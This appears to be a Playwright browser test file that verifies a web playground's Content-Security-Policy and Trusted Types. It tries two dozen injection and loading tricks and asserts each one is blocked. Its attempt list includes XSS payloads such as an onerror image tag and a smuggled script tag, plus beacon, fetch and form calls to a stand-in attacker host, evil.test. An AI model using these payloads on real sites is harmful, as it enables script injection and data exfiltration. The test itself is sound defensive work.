// The Content-Security-Policy with Trusted Types is in force: in each page, by its own meta element and by headers, in the worker, in a frame on a
// docs page, and in responses of the service worker. And the checks of all browser tests detect a violation.
import { readdirSync, readFileSync } from "node:fs";
import { type Frame, type Page, expect as plainExpect } from "@playwright/test";
import { GUIDE, serveDocs } from "./docs-page";
import { expect, Playground, isolated as plainTest, fresh as test, watch } from "./playground";
import { DIST, serve } from "./static-server";

// Each tries two dozen things, and waits a moment after each.
plainTest.describe.configure({ timeout: 90_000 });

/**
 * Ways to run or load something that a page might be tricked into. Each is tried outside of Playwright's own evaluation, to which no policy applies.
 */
const ATTEMPTS = [
  "inline script",
  "eval",
  "Function",
  "timer with a text",
  "innerHTML",
  "outerHTML in a shadow root",
  "insertAdjacentHTML",
  "document.write",
  "srcdoc",
  "inline handler",
  "javascript: address",
  "script of another origin",
  "script of a data: address",
  "import of a data: address",
  "worker of a blob",
  "inline style element",
  "style attribute",
  "image of another origin",
  "frame of another origin",
  "fetch of another origin",
  "beacon",
  "form",
  "base",
  "object",
] as const;

/** Tries all of them, and returns those after which something had run, or that neither reported a violation nor threw. */
async function notBlocked(frame: Page | Frame, patience = 4_000): Promise<string[]> {
  return frame.evaluate(
    async ([attempts, patience]) => {
      const elsewhere = "https://evil.test/x";
      const ways: Record<string, () => unknown> = {
        "inline script": () => {
          const script = document.createElement("script");
          script.append("globalThis.hacked = 1");
          document.body.append(script);
        },
        // biome-ignore lint/security/noGlobalEval: this is what must not work.
        eval: () => globalThis.eval("globalThis.hacked = 1"),
        Function: () => new Function("globalThis.hacked = 1")(),
        "timer with a text": () => setTimeout("globalThis.hacked = 1" as never),
        innerHTML: () => {
          document.createElement("div").innerHTML = "<img src=x onerror='globalThis.hacked = 1'>";
        },
        "outerHTML in a shadow root": () => {
          const root = document.createElement("div").attachShadow({ mode: "open" });
          root.innerHTML = "<b>bold</b>";
        },
        insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>bold</b>"),
        "document.write": () => document.write("<script>globalThis.hacked = 1</script>"),
        srcdoc: () => {
          document.createElement("iframe").srcdoc = "<script>parent.hacked = 1</script>";
        },
        "inline handler": () => {
          const button = document.createElement("button");
          button.setAttribute("onclick", "globalThis.hacked = 1");
          document.body.append(button);
          button.click();
          button.remove();
        },
        "javascript: address": () => {
          const link = Object.assign(document.createElement("a"), { href: "javascript:globalThis.hacked = 1" });
          document.body.append(link);
          link.click();
          link.remove();
        },
        "script of another origin": () => {
          const script = document.createElement("script");
          script.setAttribute("src", elsewhere);
          document.head.append(script);
        },
        "script of a data: address": () => {
          const script = document.createElement("script");
          script.setAttribute("src", "data:text/javascript,globalThis.hacked=1");
          document.head.append(script);
        },
        "import of a data: address": () => import("data:text/javascript,globalThis.hacked=1" as string),
        "worker of a blob": () => new Worker(URL.createObjectURL(new Blob(["1"]))),
        "inline style element": () => {
          const style = document.createElement("style");
          style.textContent = "html { --hacked: 1 }";
          document.head.append(style);
          if (getComputedStyle(document.documentElement).getPropertyValue("--hacked"))
            Object.assign(globalThis, { hacked: 1 });
          style.remove();
        },
        "style attribute": () => document.createElement("p").setAttribute("style", "color: red"),
        "image of another origin": () => {
          new Image().src = elsewhere;
        },
        "frame of another origin": () => {
          const inner = Object.assign(document.createElement("iframe"), { src: elsewhere });
          document.body.append(inner);
          setTimeout(() => inner.remove(), 150);
        },
        "fetch of another origin": () => fetch(elsewhere),
        beacon: () => navigator.sendBeacon(elsewhere, "secret"),
        form: () => {
          const form = Object.assign(document.createElement("form"), { action: elsewhere, target: "_blank" });
          document.body.append(form);
          form.submit();
          form.remove();
        },
        base: () => {
          const base = Object.assign(document.createElement("base"), { href: "https://evil.test/" });
          document.head.append(base);
          if (document.baseURI.includes("evil.test")) Object.assign(globalThis, { hacked: 1 });
          base.remove();
        },
        object: () => {
          const object = Object.assign(document.createElement("object"), { data: elsewhere });
          document.body.append(object);
          setTimeout(() => object.remove(), 150);
        },
      };
      const open: string[] = [];
      for (const name of attempts) {
        let refused = false;
        const seen = () => {
          refused = true;
        };
        document.addEventListener("securitypolicyviolation", seen);
        addEventListener("securitypolicyviolation", seen);
        await new Promise<void>((done) => {
          setTimeout(async () => {
            try {
              await ways[name]?.();
            } catch {
              // A rejection that throws is reported as well; one that only throws has not run either.
            }
            const until = performance.now() + patience;
            const wait = () => (refused || performance.now() > until ? done() : setTimeout(wait, 40));
            // Anything that runs nevertheless does so a moment later.
            setTimeout(wait, 120);
          });
        });
        document.removeEventListener("securitypolicyviolation", seen);
        removeEventListener("securitypolicyviolation", seen);
        if (!refused || "hacked" in globalThis) open.push(name);
        Reflect.deleteProperty(globalThis, "hacked");
      }
      return open;
    },
    [ATTEMPTS, patience] as const,
  );
}

const PAGES = [
  ["the page", "", "ytterby-page"],
  ["the page for frames", "embed/", "#embed"],
] as const;

plainTest("each page is guarded by itself, on a host that sends nothing", { tag: "@long" }, async ({ page }) => {
  const server = await serve({ folders: { "/": DIST } });
  for (const [name, path, element] of PAGES)
    await plainTest.step(name, async () => {
      const response = await page.goto(`${server.origin}/${path}`);
      plainExpect(response?.headers()["content-security-policy"]).toBeUndefined();
      plainExpect(await page.locator(element).count()).toBe(1);
      plainExpect(await notBlocked(page)).toEqual([]);
    });
  await server.close();
});

plainTest("each page is guarded by a host's header alone", { tag: "@long" }, async ({ page }) => {
  for (const [name, path] of PAGES)
    await plainTest.step(name, async () => {
      const html = readFileSync(`${DIST}${path}index.html`, "utf8");
      const bare = html.replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, "");
      plainExpect(bare.length).toBeLessThan(html.length - 300);
      const rule = path === "" ? "/" : "/embed/*";
      const lines = readFileSync(`${DIST}_headers`, "utf8").split("\n");
      const policy = lines[lines.indexOf(rule) + 1]?.replace(/^ *Content-Security-Policy: /, "") ?? "";
      const server = await serve({
        folders: { "/": DIST },
        texts: { [`/${path}`]: bare },
        headers: (asked): Record<string, string> => (asked === `/${path}` ? { "content-security-policy": policy } : {}),
      });
      await page.goto(`${server.origin}/${path}`);
      plainExpect(await notBlocked(page)).toEqual([]);
      await server.close();
    });
});

plainTest(
  "a script or a handler that is injected does not run, and no other HTML is built",
  async ({ page, baseURL }) => {
    const refused: string[] = [];
    await page.exposeFunction("refused", (what: string) => refused.push(what));
    await page.addInitScript(() => {
      addEventListener("securitypolicyviolation", ({ violatedDirective }) => {
        (globalThis as unknown as { refused(what: string): void }).refused(violatedDirective);
      });
    });
    for (const [name, path] of PAGES)
      await plainTest.step(`injected into ${name}`, async () => {
        await page.route(`${baseURL}${path}`, async (route) => {
          const response = await route.fetch();
          plainExpect(response.headers()["content-security-policy"]).toContain("require-trusted-types-for 'script'");
          const smuggled = "<script>hacked = 1</script><img src=x onerror='hacked = 1'><p style='color: red'>";
          await route.fulfill({ response, body: (await response.text()).replace("<body>", `<body>${smuggled}`) });
        });
        refused.length = 0;
        await page.goto(`${baseURL}${path}`);
        await plainExpect
          .poll(() => [...new Set(refused)].sort())
          .toEqual(expect.arrayContaining(["script-src-attr", "script-src-elem", "style-src-attr"]));
        plainExpect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
      });
    const built = readdirSync(DIST, { recursive: true })
      .map(String)
      .filter((name) => name.endsWith(".html"));
    plainExpect(built.sort()).toEqual(PAGES.map(([, path]) => `${path}index.html`).sort());
  },
);

plainTest("without a policy all of these get through", { tag: "@long" }, async ({ page }) => {
  // Otherwise the tests above would prove nothing.
  const server = await serve({ texts: { "/": "<!doctype html><title>Bare</title><p>Bare" } });
  await page.route("https://evil.test/**", (route) => route.fulfill({ body: "" }));
  await page.goto(server.origin);
  plainExpect(await notBlocked(page, 0)).toEqual([...ATTEMPTS]);
  await server.close();
});

plainTest(
  "the policy is in force in a frame on a docs page, and in a docs page with the recommended policy",
  { tag: "@long" },
  async ({ page }) => {
    const server = await serveDocs(`<iframe title="frame" src="/docs/v2/playground/embed/#example:kiln"></iframe>`);
    await page.goto(server.origin + GUIDE);
    await plainExpect(page.frameLocator("iframe").locator(".output .cm-content")).toContainText("kiln: HESTIA");
    const frame = page.frames().find((one) => one.url().includes("/embed/"));
    plainExpect(frame && (await notBlocked(frame))).toEqual([]);
    plainExpect(await notBlocked(page)).toEqual([]);
    await server.close();
  },
);

plainTest(
  "the policy is in force in responses of the service worker",
  { tag: "@long" },
  async ({ browser, baseURL }) => {
    const context = await browser.newContext({ serviceWorkers: "allow" });
    const page = await context.newPage();
    await page.goto(`${baseURL}`);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await plainExpect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    for (const [, path, element] of PAGES) {
      const response = await page.goto(`${baseURL}${path}`);
      plainExpect(response?.fromServiceWorker()).toBe(true);
      plainExpect(await page.locator(element).count()).toBe(1);
      plainExpect(await notBlocked(page)).toEqual([]);
    }
    await context.close();
  },
);

plainTest(
  "the engine's worker evaluates no text and asks no other origin, and the watch notices what a page must never do",
  async ({ page, baseURL }) => {
    await test.step("the engine's worker evaluates no text and asks no other origin", async () => {
      await page.goto(`${baseURL}`);
      await plainExpect(new Playground(page).status).toContainText("Rendered in");
      const [worker] = page.workers();
      const outcome = await worker?.evaluate(
        () =>
          new Promise<string[]>((done) => {
            setTimeout(async () => {
              const outcomes: string[] = [];
              try {
                // biome-ignore lint/security/noGlobalEval: this is what must not work.
                outcomes.push(String(globalThis.eval("'ran'")));
              } catch (error) {
                outcomes.push((error as Error).name);
              }
              await fetch("https://evil.test/").then(
                () => outcomes.push("fetched"),
                (error) => outcomes.push(error.name),
              );
              done(outcomes);
            });
          }),
      );
      plainExpect(outcome).toEqual(["EvalError", "TypeError"]);
    });
    await test.step("the watch notices what a page must never do", async () => {
      const wrong = await watch(page, new URL(baseURL ?? "").origin);
      await page.goto("./");
      await plainExpect(new Playground(page).status).toContainText("Rendered in");
      for (const [name, [misdeed, noticed]] of Object.entries(MISDEEDS))
        await plainTest.step(name, async () => {
          plainExpect(wrong).toEqual([]);
          await misdeed(page);
          await plainExpect.poll(() => wrong.join("\n")).toContain(noticed);
          wrong.length = 0;
        });
    });
  },
);

// The checks of all browser tests.

/** Possible mistakes in a page's own code, a moment later, and the reports of the checks. */
const MISDEEDS: Record<string, [misdeed: (page: Page) => Promise<void>, noticed: string]> = {
  "evaluates a text": [
    // biome-ignore lint/security/noGlobalEval: this is what must not work.
    (page) => page.evaluate(() => void setTimeout(() => globalThis.eval("1"))),
    "policy: require-trusted-types-for",
  ],
  "makes markup of a text": [
    (page) =>
      page.evaluate(
        () =>
          void setTimeout(() => {
            document.createElement("p").innerHTML = "<b>";
          }),
      ),
    "policy: require-trusted-types-for",
  ],
  "adds an inline style": [
    (page) => page.evaluate(() => document.body.setAttribute("style", "color: red")),
    "policy: style-src-attr",
  ],
  "asks another origin": [
    (page) => page.evaluate(() => void fetch("https://evil.test/").catch(() => {})),
    "policy: connect-src",
  ],
  throws: [(page) => page.evaluate(() => void setTimeout(() => Promise.reject(new Error("thrown")))), "threw: thrown"],
  "writes to the console": [(page) => page.evaluate(() => console.error("written")), "console: written"],
};

test.fail("a test fails where the watch has noticed something", async ({ playground, page }) => {
  await playground.open();
  const written = page.waitForEvent("console");
  await page.evaluate(() => console.error("written"));
  await written;
});

plainTest("violations are reported, in the page and in a frame", { tag: "@quick" }, async ({ page }) => {
  const server = await serveDocs(`<iframe title="frame" src="/docs/v2/playground/embed/#example:kiln"></iframe>`);
  const wrong = await watch(page, server.origin);
  await page.goto(server.origin + GUIDE);
  await plainExpect(page.frameLocator("iframe").locator(".output .cm-content")).toContainText("kiln: HESTIA");
  plainExpect(wrong).toEqual([]);
  for (const frame of page.frames()) {
    wrong.length = 0;
    await frame.evaluate(
      () =>
        void setTimeout(() => {
          document.createElement("p").innerHTML = "<b>";
        }),
    );
    await plainExpect.poll(() => wrong.join("\n")).toContain("policy: require-trusted-types-for");
  }
  await server.close();
});
